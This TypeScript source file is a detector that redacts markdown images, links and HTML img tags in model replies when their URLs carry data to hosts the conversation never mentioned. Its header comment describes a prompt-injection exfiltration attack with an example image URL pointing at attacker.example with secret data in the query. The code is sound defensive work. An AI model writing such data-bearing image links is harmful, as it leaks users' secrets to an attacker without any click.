import { detectSecrets } from './secret-detector';
import type { DetectorResult, LeakSpan } from './spans';

/**
 * Markdown-image and link exfiltration: an injected instruction makes the model write
 * `![](https://attacker.example/log?d=<secret data>)`; the chat UI fetches the image and the data
 * leaves with no click. Images (and HTML <img>) carrying any data to a host that appears nowhere in
 * the conversation are redacted; links only when they carry a substantial payload.
 */
const MD_IMAGE = /!\[[^\]\n]{0,500}\]\(\s*<?([^\s)>]+)[^)\n]*\)/g;
const MD_LINK = /(?<!!)\[[^\]\n]{0,500}\]\(\s*<?([^\s)>]+)[^)\n]*\)/g;
const HTML_IMG = /<img\b[^>]{0,4096}?\bsrc\s*=\s*["']?([^"'\s>]+)[^>]{0,4096}>/gi;
/** An image or link whose URL is still being written (tested anchored at a candidate start). */
const OPEN_MD = /!?\[[^\]\n]{0,500}(?:\](?:\([^)\n]{0,4096})?)?$/y;
const OPEN_IMG = /<img\b[^>]{0,4096}$/iy;
const OPEN_WINDOW = 4_700;
/** A URL-safe run long enough to be encoded data (base64, hex, a key). */
const BLOB = /[A-Za-z0-9+/=_%-]{24,}/;

const URL_IN_TEXT = /\b(?:https?:)?\/\/([A-Za-z0-9.-]+)/g;

/** Hosts the conversation itself mentions: links to them are expected, not exfiltration. */
export function conversationHosts(texts: readonly string[]): Set<string> {
  const hosts = new Set<string>();
  for (const t of texts) {
    URL_IN_TEXT.lastIndex = 0;
    let m: RegExpExecArray | null;
    while ((m = URL_IN_TEXT.exec(t)) !== null) hosts.add(m[1].toLowerCase().replace(/\.$/, ''));
  }
  return hosts;
}

function known(host: string, hosts: ReadonlySet<string>): boolean {
  for (let h = host; h.includes('.'); h = h.slice(h.indexOf('.') + 1)) if (hosts.has(h)) return true;
  return hosts.has(host);
}

type Judgement = 'image' | 'link';

/** The conversation's hosts, computed only when a reply has a link to judge. */
export type HostsOf = () => ReadonlySet<string>;

/** An email address in a URL, plain or %-encoded. */
const EMAIL_IN_URL = /[A-Za-z0-9._%+-]+(?:@|%40)[A-Za-z0-9-]+\.[A-Za-z]{2,}/;
/** A run of URL-safe characters long enough to be encoded data. */
const RUN = /[A-Za-z0-9+/=_%-]{24,}/g;

/**
 * Judged without the conversation (an agent's reply read from its logs): the URL itself must carry
 * data — an email address, a base64-like run (mixed case and digits: not a commit hash or a slug), or
 * a secret. A chart service's long query of labels and numbers does not.
 */
function carriesData(u: URL): boolean {
  const raw = u.pathname + u.search + u.hash;
  let decoded = raw;
  try {
    decoded = decodeURIComponent(raw);
  } catch {
    // A malformed escape: judge the raw text.
  }
  if (EMAIL_IN_URL.test(raw) || EMAIL_IN_URL.test(decoded)) return true;
  for (const run of raw.match(RUN) ?? []) if (/[a-z]/.test(run) && /[A-Z]/.test(run) && /\d/.test(run)) return true;
  return detectSecrets(decoded, true).spans.length > 0;
}

/** Does this URL carry data to an unknown host (or, without a conversation, carry data at all)? */
function exfiltrates(raw: string, kind: Judgement, hosts: HostsOf | null): boolean {
  let u: URL;
  try {
    u = new URL(raw.startsWith('//') ? `https:${raw}` : raw);
  } catch {
    return false;
  }
  if (u.protocol !== 'http:' && u.protocol !== 'https:') return false;
  if (hosts === null) return carriesData(u);
  if (known(u.hostname.toLowerCase(), hosts())) return false;
  const query = u.search.length > 1 ? u.search.slice(1) : '';
  const dataInPath = u.pathname.split('/').some((seg) => BLOB.test(seg));
  if (kind === 'image') return query !== '' || u.hash.length > 1 || dataInPath;
  return query.length >= 48 || BLOB.test(query) || dataInPath;
}

function scan(re: RegExp, kind: Judgement, ruleId: string, text: string, hosts: HostsOf | null, spans: LeakSpan[]): void {
  re.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = re.exec(text)) !== null) {
    if (exfiltrates(m[1], kind, hosts)) spans.push({ start: m.index, end: m.index + m[0].length, ruleId, category: 'data_exfiltration', severity: 'high' });
  }
}

/** `hosts` null: no conversation to compare with (a reply from an agent's log), so the URL must carry data itself. */
export function detectExfilLinks(text: string, final: boolean, hosts: HostsOf | null): DetectorResult {
  const spans: LeakSpan[] = [];
  // Cheap pre-check: most replies have no link at all.
  if (text.includes('](') || /<img/i.test(text)) {
    scan(MD_IMAGE, 'image', 'out-exfil-markdown-image', text, hosts, spans);
    scan(MD_LINK, 'link', 'out-exfil-markdown-link', text, hosts, spans);
    scan(HTML_IMG, 'image', 'out-exfil-markdown-image', text, hosts, spans);
  }
  const pendingFrom = final ? undefined : openConstruct(text);
  return pendingFrom === undefined ? { spans } : { spans, pendingFrom };
}

/**
 * The start of an image or link still open at the end of the text. Only the last few `[` and `<`
 * are tried, each with an anchored regex, so a hostile text cannot make this quadratic.
 */
function openConstruct(text: string): number | undefined {
  const floor = Math.max(0, text.length - OPEN_WINDOW);
  let found: number | undefined;
  for (const [ch, re] of [['[', OPEN_MD], ['<', OPEN_IMG]] as const) {
    let at = text.length;
    for (let tries = 0; tries < 6; tries++) {
      at = text.lastIndexOf(ch, at - 1);
      if (at < floor) break;
      const start = ch === '[' && text[at - 1] === '!' ? at - 1 : at;
      re.lastIndex = start;
      if (re.test(text)) found = found === undefined ? start : Math.min(found, start);
      if (at === 0) break;
    }
  }
  return found;
}
